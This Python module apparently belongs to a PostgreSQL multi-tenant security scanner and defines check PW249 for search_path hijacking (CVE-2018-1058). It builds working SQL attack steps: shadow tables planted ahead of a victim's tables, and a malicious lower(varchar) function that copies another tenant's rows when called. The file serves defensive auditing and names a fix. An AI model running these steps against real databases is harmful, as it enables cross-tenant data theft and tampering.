"""PW249: B looks a name up, and finds what A put there."""

from __future__ import annotations

from typing import TYPE_CHECKING

from partywall.survey import sql
from partywall.survey.attack import Attempt, Breach, Step, attack
from partywall.survey.capability import BUILT, neighbours, victims
from partywall.survey.mending.privileges import uncreatable
from partywall.survey.surfaces import insertable, reachable

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

    from partywall.catalog.facts import Relation
    from partywall.survey.attack import Judgement, Outcome, Scene
    from partywall.survey.world import Row


@attack("PW249", effect="read", level="sql")
def plant_in_path(scene: Scene) -> Iterator[Attempt]:
    """Create tables and functions where B's unqualified names are looked up first.

    CREATE on a schema of the search_path, or on the database while "$user" stands in the path
    and has no schema: a table before the protected one takes what B inserts and shows what A put
    there; a function that fits an argument better than the built-in one runs with B's rights.

    Affected:
        Databases whose public schema, or another of the search_path, still lets the application's
        login create.

    Breaches:
        GRANT CREATE ON SCHEMA public TO app;

    Holds:
        GRANT USAGE ON SCHEMA public TO app;

    Fix:
        Take CREATE from the login on every schema that names are looked up in.

    Source:
        https://www.postgresql.org/docs/current/ddl-schemas.html
        https://wiki.postgresql.org/wiki/A_Guide_to_CVE-2018-1058:_Protect_Your_Search_Path
    """
    if not neighbours(scene):
        return
    for prepare, name, quoted in _places(scene):
        for relation, _ in victims(scene):
            spare = scene.world.spare.get((relation.qualified, "B"))
            if spare is not None and _meant(scene, relation, name):
                yield from _table(scene, relation, spare, (prepare, quoted))
        yield from _function(scene, (prepare, quoted))


def _places(scene: Scene) -> Iterator[tuple[tuple[Step, ...], str, str]]:
    """Schemas in B's path that A may create in: the steps that make it, its name, quoted."""
    role, b = scene.identities["A"].role, scene.identities["B"]
    database = scene.snapshot.databases.get(b.database)
    if (
        b.role not in scene.snapshot.schemas
        and database is not None
        and role in database.create
        and _looks_in_user(scene)
    ):
        quoted = sql.identifier(b.role)
        grant = Step("A", f"GRANT USAGE ON SCHEMA {quoted} TO PUBLIC")
        yield (Step("A", f"CREATE SCHEMA {quoted}"), grant), b.role, quoted
    for name in b.search_path:
        schema = scene.snapshot.schemas.get(name)
        if schema is not None and role in schema.create & schema.usage and b.role in schema.usage:
            yield (), name, schema.quoted


def _looks_in_user(scene: Scene) -> bool:
    """Whether B's search_path still leads with "$user", the server's default."""
    b = scene.identities["B"]
    if any("search_path" in statement.lower() for statement in b.enter):
        return False
    login = scene.snapshot.roles.get(b.login)
    lodged = (login.settings if login else {}).get("search_path")
    return "$user" in (lodged or scene.snapshot.settings.get("search_path") or "$user")


def _meant(scene: Scene, relation: Relation, schema: str) -> bool:
    """Whether B's unqualified name finds *relation*, and would find *schema* before it."""
    path = [*scene.identities["B"].search_path]
    if relation.schema not in path or not reachable(scene, "B", relation, "INSERT"):
        return False
    at = path.index(relation.schema)
    names = {
        (r.schema, r.name) for r in scene.snapshot.relations.values() if r.name == relation.name
    }
    found = next((s for s in path if (s, relation.name) in names), None)
    return found == relation.schema and (schema not in path or path.index(schema) < at)


def _table(
    scene: Scene, relation: Relation, spare: Row, place: tuple[tuple[Step, ...], str]
) -> Iterator[Attempt]:
    prepare, schema = place
    shadow = f"{schema}.{relation.quoted}"
    listed = ", ".join(f"{c.quoted} {c.type}" for c in relation.columns)
    insert = spare.insert(into=relation.quoted, omit=insertable(scene, relation, "B", spare))
    build = (
        *prepare,
        Step("A", f"CREATE TABLE {shadow} ({listed})"),
        Step("A", f"GRANT ALL ON {shadow} TO PUBLIC"),
    )
    theirs, haul = Step("B", insert), Step("A", sql.select(shadow))

    def judge(outcomes: Sequence[Outcome]) -> Judgement:
        if outcomes[-2].ok and outcomes[-1].shows(scene.world.tokens["B"]):
            because = f"a table of A's own stands before {relation.qualified}"
            return Breach(f"{because}: what another tenant inserted landed in it")
        return None

    yield Attempt(
        at=relation.qualified,
        attacker="A",
        steps=(*build, theirs, haul),
        judge=judge,
        repair=lambda: uncreatable(scene, schema),
    )
    own = scene.world.spare.get((relation.qualified, "A"))
    if own is None or not reachable(scene, "B", relation, "SELECT"):
        return

    def misled(outcomes: Sequence[Outcome]) -> Judgement:
        if outcomes[-1].shows([scene.world.canaries["A"]]):
            because = f"a table of A's own stands before {relation.qualified}"
            return Breach(f"{because}: another tenant reads what A put there")
        return None

    put, read = Step("A", own.insert(into=shadow)), Step("B", sql.select(relation.quoted))
    yield Attempt(
        at=relation.qualified,
        attacker="A",
        steps=(*build, put, read),
        judge=misled,
        effect="write",
        repair=lambda: uncreatable(scene, schema),
    )


def _function(scene: Scene, place: tuple[tuple[Step, ...], str]) -> Iterator[Attempt]:
    """lower(varchar): every call of lower() on a varchar column then runs A's code as B."""
    prepare, schema = place
    target = next((r for r, _ in victims(scene) if reachable(scene, "B", r, "SELECT")), None)
    if target is None:
        return
    haul = f"{schema}.{BUILT}"
    body = (
        f"BEGIN INSERT INTO {haul} SELECT t::text FROM {target.qualified} t; "
        "RETURN pg_catalog.lower($1::text); END"
    )
    steps = (
        *prepare,
        Step("A", f"CREATE TABLE {haul} (line text)"),
        Step("A", f"GRANT ALL ON {haul} TO PUBLIC"),
        Step(
            "A",
            f"CREATE FUNCTION {schema}.lower(varchar) RETURNS text LANGUAGE plpgsql AS $${body}$$",
        ),
        Step("B", "SELECT lower('Any'::varchar)"),
        Step("A", sql.select(haul, ["line"])),
    )

    def judge(outcomes: Sequence[Outcome]) -> Judgement:
        if outcomes[-2].ok and outcomes[-1].shows(scene.world.tokens["B"]):
            return Breach(
                f"a function that A put into {schema} ran when another tenant called lower() on a "
                "varchar, and copied its rows"
            )
        return None

    yield Attempt(
        at=f"schema {schema}",
        attacker="A",
        steps=steps,
        judge=judge,
        repair=lambda: uncreatable(scene, schema),
    )
